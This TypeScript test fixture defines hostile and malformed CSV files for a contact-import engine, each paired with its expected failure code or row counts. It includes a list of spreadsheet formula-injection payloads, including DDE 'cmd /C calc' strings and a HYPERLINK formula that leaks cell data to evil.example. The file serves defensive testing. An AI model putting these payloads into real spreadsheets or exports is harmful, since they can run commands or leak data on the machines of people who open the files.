// Broken and hostile files, each with what must come of it: a whole-import failure with a clear code, or a
// completed import whose rows say what happened to them. Never a crash, a hang or unbounded memory.

import type { CustomField } from '../../../shared/domain/fields.js';
import { seededRandom } from './faults.js';

export type Expected =
  | { status: 'failed'; failure: string }
  | {
      status: 'completed';
      counts: Partial<Record<'rows' | 'created' | 'updated' | 'skipped' | 'errored', number>>;
      /** Codes of the summary's errors, in row order. */
      errors?: string[];
    };

export interface HostileFile {
  name: string;
  bytes: Buffer;
  expected: Expected;
  /** Too large for the API's 10 MiB request limit, or too slow to send twice: engine only. */
  engineOnly?: boolean;
  /** Custom fields the workspace has before the file is imported. */
  customFields?: CustomField[];
}

const utf8 = (text: string) => Buffer.from(text, 'utf8');
const failed = (failure: string): Expected => ({ status: 'failed', failure });

/** Cells spreadsheets run as formulas (OWASP CSV injection), as they come in a file. */
export const INJECTION_CELLS = [
  "=cmd|' /C calc'!A0",
  '+1+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+9)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  ' =1+1',
  '\n=HYPERLINK("http://evil.example")',
];

const randomBytes = (seed: number, length: number) => {
  const random = seededRandom(seed);
  const bytes = Buffer.alloc(length);
  for (let i = 0; i < length; i++) bytes[i] = Math.floor(random() * 256);
  return bytes;
};

const randomPrintable = (seed: number, length: number) => {
  const random = seededRandom(seed);
  const alphabet = 'abcdefghijklmnopqrstuvwxyz0123456789 ,;|"\'\n\r\t.-_=+';
  let text = '';
  for (let i = 0; i < length; i++) text += alphabet[Math.floor(random() * alphabet.length)];
  return utf8(text);
};

const csvQuote = (cell: string) => `"${cell.replace(/"/g, '""')}"`;

export const TEN_MB = 10_000_000;

const textField = (key: string): CustomField => ({ key, label: key, type: 'text' });
const WIDE_FIELDS = Array.from({ length: 220 }, (_, i) => textField(`f${i}`));

/** What left imports `running` for good (issue 18): storage refused a contact, and every retry met it again. */
export const stuckImportTriggers = (): HostileFile[] => [
  {
    name: 'a custom field keyed constructor',
    customFields: [textField('constructor')],
    bytes: utf8('Email,constructor\nann@x.com,hello\nbob@x.com,world\n'),
    expected: { status: 'completed', counts: { rows: 2, created: 2 } },
  },
  {
    name: 'a contact over the 400 KB item limit: 220 text custom fields of 2,040 characters',
    customFields: WIDE_FIELDS,
    bytes: utf8(
      [
        ['Email', ...WIDE_FIELDS.map((f) => f.key)].join(','),
        ['wide@x.com', ...WIDE_FIELDS.map((_, i) => String(i % 10).repeat(2040))].join(','),
        'narrow@x.com',
      ].join('\n'),
    ),
    expected: {
      status: 'completed',
      counts: { rows: 2, created: 1, errored: 1 },
      errors: ['value_too_long'],
    },
  },
  {
    name: 'a contact over the item limit by merging: 220 fields filled 20 at a time',
    customFields: WIDE_FIELDS,
    bytes: utf8(
      [
        ['Email', ...WIDE_FIELDS.map((f) => f.key)].join(','),
        ...Array.from({ length: 11 }, (_, r) =>
          [
            'grow@x.com',
            ...WIDE_FIELDS.map((_, i) => (Math.floor(i / 20) === r ? 'g'.repeat(2040) : '')),
          ].join(','),
        ),
      ].join('\n'),
    ),
    // 180 fields fit (about 370 KB), the rows that would bring 200 are errored.
    expected: {
      status: 'completed',
      counts: { rows: 11, created: 1, updated: 8, errored: 2 },
      errors: ['value_too_long', 'value_too_long'],
    },
  },
  {
    name: 'tags merged without a cap: 70 rows of 100 tags for one email',
    bytes: utf8(
      [
        'Email,Tags',
        ...Array.from(
          { length: 70 },
          (_, r) => `many@x.com,${Array.from({ length: 100 }, (_, t) => `tag-${r}-${t}`).join(';')}`,
        ),
      ].join('\n'),
    ),
    expected: { status: 'completed', counts: { rows: 70, created: 1, errored: 69 } },
  },
];

export const hostileCorpus = (): HostileFile[] => [
  { name: 'random bytes', bytes: randomBytes(1, 64 * 1024), expected: failed('not_csv') },
  {
    name: 'random bytes after a valid header',
    bytes: Buffer.concat([utf8('Email\n'), randomBytes(2, 4096)]),
    expected: failed('not_csv'),
  },
  { name: 'random printable text', bytes: randomPrintable(3, 32 * 1024), expected: failed('no_header') },
  { name: 'NUL bytes only', bytes: Buffer.alloc(4096), expected: failed('not_csv') },
  {
    name: 'a NUL byte inside a cell',
    bytes: utf8('Email,First Name\nann@x.com,An\u0000n\n'),
    expected: failed('not_csv'),
  },
  {
    name: 'a file cut in the middle of a multi-byte character',
    bytes: utf8('Email,First Name\nann@x.com,Ann\nzoe@x.com,Zo\u00eb').subarray(0, -1),
    // The cut character cannot be decoded: never stored as U+FFFD, its row is errored (SPEC §5).
    expected: { status: 'completed', counts: { rows: 2, created: 1, errored: 1 }, errors: ['invalid_value'] },
  },
  {
    name: 'a file cut inside a quoted value (no line end after it)',
    bytes: utf8('Email,First Name\nann@x.com,Ann\nzoe@x.com,"Zo'),
    expected: { status: 'completed', counts: { rows: 2, created: 1, errored: 1 }, errors: ['malformed_row'] },
  },
  {
    name: 'an unclosed quote on the last line, with a line end',
    bytes: utf8('Email,First Name\nann@x.com,Ann\nzoe@x.com,"Zoe\n'),
    expected: { status: 'completed', counts: { rows: 2, created: 1, errored: 1 }, errors: ['malformed_row'] },
  },
  {
    name: 'an unclosed quote in the middle of the file',
    bytes: utf8('Email,First Name\nann@x.com,"Ann\nbob@x.com,Bob\ncat@x.com,Cat\n'),
    expected: { status: 'completed', counts: { rows: 3, created: 2, errored: 1 }, errors: ['malformed_row'] },
  },
  {
    name: 'invalid UTF-8 (read as Windows-1252)',
    bytes: Buffer.concat([
      utf8('Email,First Name\nann@x.com,A'),
      Buffer.from([0xff, 0xfe, 0xc3, 0x28]),
      utf8('\n'),
    ]),
    expected: { status: 'completed', counts: { rows: 1, created: 1 } },
  },
  {
    name: 'UTF-8 encoded surrogates (invalid, read as Windows-1252)',
    bytes: Buffer.concat([utf8('Email,Last Name\nann@x.com,'), Buffer.from([0xed, 0xa0, 0x80]), utf8('\n')]),
    expected: { status: 'completed', counts: { rows: 1, created: 1 } },
  },
  {
    name: 'UTF-16LE cut to an odd number of bytes',
    bytes: Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from('Email\r\nann@x.com\r\nbob@x.com', 'utf16le'),
    ]).subarray(0, -1),
    expected: { status: 'completed', counts: { rows: 2 } },
  },
  { name: 'only a UTF-8 BOM', bytes: Buffer.from([0xef, 0xbb, 0xbf]), expected: failed('empty_file') },
  { name: 'only a UTF-16LE BOM', bytes: Buffer.from([0xff, 0xfe]), expected: failed('empty_file') },
  { name: 'only blank lines and spaces', bytes: utf8('\n\r\n   \n\t\n'), expected: failed('empty_file') },
  { name: 'only delimiters', bytes: utf8(',,,\n;;;\n|||\n'), expected: failed('no_header') },
  {
    name: 'only a header (BOM, CRLF, no line end)',
    bytes: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf8('Email,Phone,First Name')]),
    expected: { status: 'completed', counts: { rows: 0 } },
  },
  {
    name: 'an Excel workbook',
    bytes: Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), randomBytes(4, 1024)]),
    expected: failed('not_csv'),
  },
  {
    name: 'a 2 MB line with no line end',
    bytes: utf8('a'.repeat(2 * 1024 * 1024)),
    expected: failed('no_header'),
  },
  {
    name: '100,000 columns in the header',
    bytes: utf8(`Email,${Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(',')}\nann@x.com\n`),
    expected: failed('too_many_columns'),
  },
  {
    name: '100,000 cells in a data row',
    bytes: utf8(`Email,First Name\nann@x.com,Ann${',x'.repeat(100_000)}\nbob@x.com,Bob\n`),
    expected: { status: 'completed', counts: { rows: 2, created: 1, errored: 1 }, errors: ['extra_columns'] },
  },
  {
    name: 'a 1 MB record: one quoted value full of line ends, delimiters and quotes',
    bytes: utf8(
      `Email,First Name,Notes\nann@x.com,Ann,${csvQuote('line, with "quotes"\r\n'.repeat(50_000))}\nbob@x.com,Bob,\n`,
    ),
    expected: { status: 'completed', counts: { rows: 2, created: 2 } },
  },
  {
    name: 'a 1 MB record of 400 columns',
    bytes: utf8(
      `Email,${Array.from({ length: 399 }, (_, i) => `n${i}`).join(',')}\nann@x.com,${Array.from({ length: 399 }, () => 'y'.repeat(2600)).join(',')}\n`,
    ),
    expected: { status: 'completed', counts: { rows: 1, created: 1 } },
  },
  {
    name: 'a 10 MB cell in a column that maps to nothing',
    bytes: utf8(`Email,Notes\nann@x.com,${'n'.repeat(TEN_MB)}\nbob@x.com,short\n`),
    expected: { status: 'completed', counts: { rows: 2, created: 2 } },
  },
  {
    name: 'a 10 MB name',
    bytes: utf8(`Email,First Name\nann@x.com,${'n'.repeat(TEN_MB)}\nbob@x.com,Bob\n`),
    expected: {
      status: 'completed',
      counts: { rows: 2, created: 1, errored: 1 },
      errors: ['value_too_long'],
    },
    engineOnly: true,
  },
  {
    name: 'a header cell of 1 MB beside a real one',
    bytes: utf8(`${'h'.repeat(1024 * 1024)},Email\nx,ann@x.com\n`),
    expected: failed('malformed_csv'),
  },
  {
    name: 'a header of 400 long column names (160 KB)',
    bytes: utf8(
      `Email,${Array.from({ length: 400 }, (_, i) => `${'é'.repeat(200)}${i}`).join(',')}\nann@x.com\n`,
    ),
    expected: failed('malformed_csv'),
  },
  {
    name: '100,000 doubled quotes in one value',
    bytes: utf8(`Email,Notes\nann@x.com,"${'""'.repeat(100_000)}"\n`),
    expected: { status: 'completed', counts: { rows: 1, created: 1 } },
  },
  {
    name: '20,000 empty lines',
    bytes: utf8(`Email\nann@x.com\n${'\n'.repeat(20_000)}`),
    expected: { status: 'completed', counts: { rows: 20_001, created: 1, skipped: 20_000 } },
    engineOnly: true,
  },
  {
    name: 'CR-only line ends mixed with LF and CRLF',
    bytes: utf8('Email,First Name\rann@x.com,Ann\nbob@x.com,Bob\r\ncat@x.com,Cat'),
    expected: { status: 'completed', counts: { rows: 3, created: 3 } },
  },
  {
    name: 'formula payloads in cells and headers of errored rows',
    bytes: utf8(
      [
        `Email,First Name,${csvQuote('=HYPERLINK("http://evil.example","x")')}`,
        ...INJECTION_CELLS.map((cell, i) => `bad${i}@,${csvQuote(cell)},${csvQuote(cell)}`),
        `bad-last@,${csvQuote("'=1+1")},`,
      ].join('\n'),
    ),
    expected: {
      status: 'completed',
      counts: { rows: INJECTION_CELLS.length + 1, errored: INJECTION_CELLS.length + 1 },
    },
  },
];
